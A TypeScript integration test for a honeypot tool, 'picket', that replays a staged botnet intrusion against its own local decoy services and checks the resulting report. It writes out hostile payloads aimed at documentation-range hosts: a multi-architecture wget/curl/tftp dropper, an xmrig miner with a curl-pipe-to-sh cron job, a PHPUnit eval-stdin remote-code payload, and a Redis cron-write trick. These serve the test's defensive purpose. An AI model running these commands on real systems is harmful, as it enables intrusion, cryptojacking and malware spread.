/**
 * A day in the life of a machine on the internet: a botnet's guesser, loader, dropper, second stage and miner play against a sensor that
 * `picket up` serves, each with its real client, and the report tells what they brought. Nothing that they name is contacted.
 */

import { execFile, spawn, type ChildProcess } from 'node:child_process';
import { chmodSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import process from 'node:process';
import { afterAll, beforeAll, describe, expect } from 'vitest';
import { createPersona } from '../../src/personas/index.ts';
import { Report, type ReportView } from '../../src/daemon/report.ts';
import { stopGroup, within } from '../loop/namespaces.ts';
import { freePort } from '../support/free-port.ts';
import { needTools } from '../support/need.ts';
import { runProgram } from '../support/run-program.ts';

const entry = join(import.meta.dirname, '../../src/cli/main.ts');
const test = needTools(['hydra', 'ssh', 'scp', 'sshpass', 'curl', 'redis-cli']);
const seed = 'a day in the life';

/** The loader's script, as it is written to the victim's disk and run there; its second stage is fetched by three ways. */
const dropper = `#!/bin/sh
HOST=203.0.113.66
for ARCH in x86_64 mips arm7; do
  wget http://$HOST/bins/stage2.$ARCH -O /tmp/.$ARCH || curl -o /tmp/.$ARCH http://$HOST/bins/stage2.$ARCH
  chmod 777 /tmp/.$ARCH && /tmp/.$ARCH ssh
done
tftp -g -r stage2.sh 203.0.113.67
ftpget -u anonymous -p x 203.0.113.68 stage2.sh stage2.sh
`;
const miner = [
  'cd /tmp && wget -q http://203.0.113.77/xmrig.tar.gz && tar xzf xmrig.tar.gz',
  './xmrig -o pool.miner.example:3333 -u 48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9VetWzYGzKt52XU5xvqgzYnDK9URnRoJMk1j8nLwEVsaSWJ4fhdUyZijBGUicoD',
  '(crontab -l; echo "*/5 * * * * curl -fsSL http://203.0.113.78/keep.sh | sh") | crontab -',
].join('\n');

let folder = '';
let configuration = '';
let ports = { ssh: 0, telnet: 0, http: 0, redis: 0, api: 0 };
let up: ChildProcess | null = null;
let said = '';

const ssh = (password: string, ...words: string[]): Promise<string> =>
  runProgram(
    'sshpass',
    '-p',
    password,
    'ssh',
    '-p',
    String(ports.ssh),
    '-o',
    'StrictHostKeyChecking=no',
    '-o',
    'UserKnownHostsFile=/dev/null',
    '-o',
    'PubkeyAuthentication=no',
    'root@127.0.0.1',
    ...words,
  );

function picket(...words: string[]): Promise<string> {
  return new Promise((resolve) => {
    execFile(
      process.execPath,
      [entry, ...words, '--config', configuration],
      { timeout: 60_000, env: { ...process.env, NO_COLOR: '1' } },
      (_error, out, complaint) => resolve(out + complaint),
    );
  });
}

/** What the machine of this persona falls for. */
function weakPair(name: string): { readonly user: string; readonly password: string } {
  const pair = createPersona(name, `${seed} ${name}`, { now: Date.now() }).login.accepted.find(
    ([user]) => user === 'root',
  );
  if (pair === undefined) throw new Error(`${name} lets no root in`);
  return { user: pair[0], password: pair[1] };
}

describe('a day in the life', () => {
  beforeAll(async () => {
    folder = mkdtempSync(join(tmpdir(), 'picket-life-'));
    // Started as root, Picket's processes have user ids of their own.
    chmodSync(folder, 0o755);
    configuration = join(folder, 'picket.yaml');
    ports = {
      ssh: await freePort(),
      telnet: await freePort(),
      http: await freePort(),
      redis: await freePort(),
      api: await freePort(),
    };
    writeFileSync(
      configuration,
      JSON.stringify({
        state: join(folder, 'state'),
        api: { port: ports.api },
        sensor: {
          seed,
          listen: '127.0.0.1',
          listeners: [
            { decoy: 'ssh', port: ports.ssh, persona: 'ubuntu-web' },
            { decoy: 'telnet', port: ports.telnet, persona: 'tplink-router' },
            { decoy: 'http', port: ports.http, persona: 'ubuntu-web' },
            { decoy: 'redis', port: ports.redis, persona: 'debian-db' },
          ],
        },
      }),
    );
    up = spawn(process.execPath, [entry, 'up', '--config', configuration], { detached: true });
    for (const stream of [up.stdout, up.stderr]) {
      stream?.on('data', (chunk) => {
        said += String(chunk);
      });
    }
    expect(await within(60, () => said.includes('Picket is up.')), said).toBe(true);
  }, 90_000);

  afterAll(async () => {
    if (up !== null) await stopGroup(up);
    rmSync(folder, { recursive: true, force: true });
  }, 30_000);

  test('the guesser finds the password of root', async () => {
    const { password } = weakPair('ubuntu-web');
    const list = join(folder, 'pairs');
    writeFileSync(list, ['root:wrong1', 'root:wrong2', 'admin:admin', `root:${password}`, ''].join('\n'));
    const found = await runProgram(
      'hydra',
      '-C',
      list,
      '-t',
      '1',
      '-I',
      '-s',
      String(ports.ssh),
      'ssh://127.0.0.1',
    );
    expect(found).toContain(`password: ${password}`);
  });

  test('the loader drops a program into the router', async () => {
    const { user, password } = weakPair('tplink-router');
    const loader = join(import.meta.dirname, '../loop/telnet-loader.ts');
    const steps = await runProgram(
      process.execPath,
      loader,
      '127.0.0.1',
      '127.0.0.1',
      user,
      password,
      String(ports.telnet),
    );
    expect(steps).toContain('answered 10');
  });

  test('the dropper runs on the server and asks for its second stage', async () => {
    const { password } = weakPair('ubuntu-web');
    const file = join(folder, 'stage1.sh');
    writeFileSync(file, dropper);
    await runProgram(
      'sshpass',
      '-p',
      password,
      'scp',
      '-P',
      String(ports.ssh),
      '-o',
      'StrictHostKeyChecking=no',
      '-o',
      'UserKnownHostsFile=/dev/null',
      file,
      'root@127.0.0.1:/tmp/stage1.sh',
    );
    expect(await ssh(password, 'uname -s -m; sh /tmp/stage1.sh')).toContain('Linux x86_64');
  });

  test('the miner settles in', async () => {
    const { password } = weakPair('ubuntu-web');
    await ssh(password, miner);
    expect(await ssh(password, 'crontab -l')).toContain('keep.sh');
  });

  test('the worm comes by web and by Redis', async () => {
    await runProgram(
      'curl',
      '-s',
      '-d',
      '<?php system("curl http://203.0.113.80/worm.sh | sh"); ?>',
      `http://127.0.0.1:${ports.http}/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php`,
    );
    const redis = (...words: string[]): Promise<string> =>
      runProgram('redis-cli', '-p', String(ports.redis), ...words);
    await redis('set', 'x', '\n\n*/1 * * * * root curl -fsSL http://203.0.113.90/r.sh | sh\n\n');
    await redis('config', 'set', 'dir', '/var/spool/cron');
    await redis('config', 'set', 'dbfilename', 'root');
    expect(await redis('save')).toContain('OK');
  });

  test('the report lists credentials, commands, files, second-stage addresses and CVEs', async () => {
    let view: ReportView = new Report().view(1);
    const complete = await within(30, async () => {
      const answer = await picket('report', '--json', '--limit', '500');
      if (!answer.startsWith('{')) return false;
      const read: ReportView = JSON.parse(answer);
      view = read;
      return view.addresses.some(({ thing }) => thing.url.includes('203.0.113.90'));
    });
    expect(complete, JSON.stringify(view)).toBe(true);
    const { credentials, commands, files, addresses, weaknesses, fingerprints } = view;
    expect(credentials.map(({ thing }) => thing)).toEqual(
      expect.arrayContaining([
        expect.objectContaining({ service: 'ssh', user: 'root', password: 'wrong1', accepted: false }),
        expect.objectContaining({
          service: 'ssh',
          password: weakPair('ubuntu-web').password,
          accepted: true,
        }),
        expect.objectContaining({
          service: 'telnet',
          password: weakPair('tplink-router').password,
          accepted: true,
        }),
      ]),
    );
    expect(commands.map(({ thing }) => thing.input).join('\n')).toContain('xmrig -o pool.miner.example:3333');
    expect(files.map(({ thing }) => thing.name)).toEqual(
      expect.arrayContaining([expect.stringContaining('stage1.sh')]),
    );
    const urls = addresses.map(({ thing }) => thing.url);
    for (const address of [
      'http://203.0.113.66/bins/stage2.x86_64',
      'http://203.0.113.66/bins/stage2.mips',
      'http://203.0.113.66/bins/stage2.arm7',
      'tftp://203.0.113.67/stage2.sh',
      'ftp://203.0.113.68/stage2.sh',
      'http://203.0.113.77/xmrig.tar.gz',
      'http://203.0.113.78/keep.sh',
      'http://198.51.100.9:80/bins/mirai.mips',
      'http://203.0.113.80/worm.sh',
      'http://203.0.113.90/r.sh',
    ])
      expect(urls.join('\n')).toContain(address);
    expect(weaknesses.map(({ thing }) => thing.name)).toContain('CVE-2017-9841');
    expect(fingerprints.map(({ thing }) => thing.kind)).toContain('hassh');
  });

  test('and says the same to a person', async () => {
    const page = await picket('report');
    for (const heading of [
      'Credentials',
      'Commands',
      'Files',
      'Second-stage addresses',
      'Weaknesses tried',
      'Clients',
    ])
      expect(page).toContain(heading);
    expect(page).toContain('203.0.113.66');
    expect(page).not.toContain('\u001b');
  });
});
